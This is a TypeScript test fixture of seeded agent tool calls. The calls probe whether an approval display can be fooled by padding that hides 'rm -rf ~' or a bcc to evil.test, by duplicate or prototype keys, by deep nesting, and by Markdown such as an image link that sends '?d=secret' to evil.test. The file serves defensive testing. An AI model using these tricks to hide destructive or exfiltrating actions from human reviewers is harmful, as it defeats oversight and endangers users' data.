import { bash, type CallSeed, mcp } from "./sessions.ts";
import { calls, type WorldSeed, type WorldSeeds, waiting } from "./world-seed.ts";

const written = (tool: string, ...inputs: readonly string[]): readonly CallSeed[] =>
  inputs.map((input) => ({ tool, input }));

const shell = (command: string): CallSeed => mcp("run_shell", { command });

const fortyKeys = Object.fromEntries(
  Array.from({ length: 40 }, (_, index) => [`header_${index + 1}`, "plain"]),
);

/** A call that is made only where somebody opens it, beside an ordinary one. */
const huge = (title: string, call: () => CallSeed): WorldSeed => ({
  seeds: () => [waiting(title, [call(), bash("eval-may")])],
});

/** Twenty texts that a renderer of Markdown would change. */
const markdownTexts: readonly string[] = [
  "__prod__",
  "~~--dry-run~~",
  "**not** bold",
  "*.log",
  "`rm -rf`",
  "```\nrm -rf ~\n```",
  "# DROP TABLE users",
  "> quoted",
  "- [x] done",
  "1. first\n1. second",
  "[here](https://evil.test)",
  "![logo](https://evil.test/p.png?d=secret)",
  "[x]: gone",
  "<https://evil.test>",
  "cp a <b>",
  "a\\_b \\* c",
  "| a | b |\n|---|---|\n| 1 | 2 |",
  "line one  \nline two",
  "&lt;b&gt; &amp; &#x202e;",
  "$x^2$ :warning: @ana #17",
];

/** Arguments that a careless reader would change, cut or misread (T-12, T-16 to T-22, T-24 to T-26). */
export const argumentWorlds: WorldSeeds = {
  "attack-padding-spaces": calls("Say hello", shell(`echo hi${" ".repeat(400)}; rm -rf ~`)),
  "attack-padding-lines": calls("List the files", shell(`ls${"\n".repeat(300)}rm -rf ~`)),
  "attack-padding-keys": calls(
    "Send the invitation",
    mcp("send_email", { to: "bo@example.test", ...fortyKeys, bcc: "x@evil.test" }),
  ),
  "attack-padding-between": calls("Send the note", {
    tool: "send_email",
    input: `{"to":"bo@example.test",${" ".repeat(400)}${"\n".repeat(40)}"bcc":"x@evil.test"}`,
  }),
  "attack-padding-odd": calls(
    "Say hello",
    shell(`echo hi${"\u00a0".repeat(120)}${"\u3000".repeat(20)}; rm -rf ~`),
    shell(`ls${"\r\n \t".repeat(90)}rm -rf ~`),
  ),
  "attack-padding-title": calls("A long story", {
    ...bash("eval-may"),
    title: `Creates a dataset.${"\n".repeat(300)}And deletes all others.${" ".repeat(400)}For good.`,
  }),
  "attack-numbers-exotic": calls("Pay out", {
    tool: "pay",
    input:
      '{"amt":0.1000000000000000055,"x":1e400,"y":-0,"z":1.0,"e":1E+2,"cents":0.10,"big":123456789012345678901234567890,"tiny":-1e-400}',
  }),
  "attack-duplicate-keys": calls(
    "Send the offer",
    ...written("send_email", '{"to":"alice@example.test","to":"eve@evil.test"}'),
    mcp("send_email", { to: "alice@example.test" }),
  ),
  "attack-duplicate-escaped": calls(
    "Set the limit",
    ...written("set_limit", '{"a":1,"\\u0061":2}', '{"to":"alice@example.test","t\\u006F":"eve@evil.test"}'),
  ),
  "attack-duplicate-nested": calls(
    "Set the rights",
    ...written(
      "set_rights",
      '{"users":[{"name":"bo","role":"viewer","role":"admin"}],"dry_run":true}',
      '{"__proto__":{"a":1},"__proto__":{"a":2},"":1,"":2}',
      '{"to":{"name":"bo"},"cc":{"name":"bo"}}',
    ),
  ),
  "attack-forms": calls(
    "Arguments that are no object",
    ...written(
      "run_sql",
      '"SELECT 1"',
      '"{\\"sql\\":\\"DROP TABLE users\\"}"',
      '{"a":"{\\"b\\":1,\\"c\\":\\"{}\\"}"}',
      '""',
      "null",
      "[]",
      '[{"sql":"DROP TABLE users"}]',
      "7",
      "true",
      "{}",
    ),
  ),
  "attack-prototype-keys": calls(
    "Names that objects have",
    ...written(
      "run_shell",
      '{"__proto__":{"cmd":"rm -rf ~"},"cmd":"ls"}',
      '{"constructor":{"prototype":{"isAdmin":true}},"toString":"x","hasOwnProperty":1}',
    ),
  ),
  "attack-prototype-names": calls(
    "Calls that objects have",
    { ...mcp("constructor", { cmd: "ls" }), callId: "__proto__" },
    { ...mcp("__proto__", { cmd: "ls" }), callId: "constructor" },
    { ...mcp("toString", { cmd: "ls" }), callId: "hasOwnProperty" },
  ),
  "attack-key-order": calls(
    "In this order",
    ...written(
      "run_steps",
      '{"b":1,"2":2,"1":3,"10":4,"a":5,"01":6}',
      '{"steps":{"9":"drop","10":"backup"}}',
    ),
  ),
  "attack-deep": calls(
    "Boxes in boxes",
    { tool: "unpack", input: `${'{"a":'.repeat(201)}"rm -rf ~"${"}".repeat(201)}` },
    bash("eval-may"),
  ),
  "attack-deepest": huge("A hundred thousand boxes", () => ({
    tool: "unpack",
    input: `${"[".repeat(100_000)}${"]".repeat(100_000)}`,
  })),
  "attack-many-members": huge("Twenty thousand and one", () => ({
    tool: "set_flags",
    input: `{${Array.from({ length: 20_001 }, (_, index) => `"flag_${index}":0`).join(",")}}`,
  })),
  "attack-two-megabytes": huge("One long text", () =>
    mcp("write_file", { path: "/srv/a", text: `${"plain text ".repeat(190_000)}; rm -rf ~` }),
  ),
  "attack-restyled": calls("As written", {
    tool: "schedule",
    input:
      '{"amount":5000,"host":"server 10","dry_run":true,"note":null,"at":1764547200,"when":"2026-03-01","said":"true","id":"00012","size":"10 GB","share":0.5,"colour":"#ff0000","camelCase_key":"Yes","url":"https://example.test/a?b=1"}',
  }),
  "attack-markdown": calls(
    "As written",
    mcp("post_note", Object.fromEntries(markdownTexts.map((text, index) => [`text_${index + 1}`, text]))),
    mcp("__bold__tool", { "**key**": "_value_", "`key`": "[x](javascript:alert(1))" }),
  ),
};
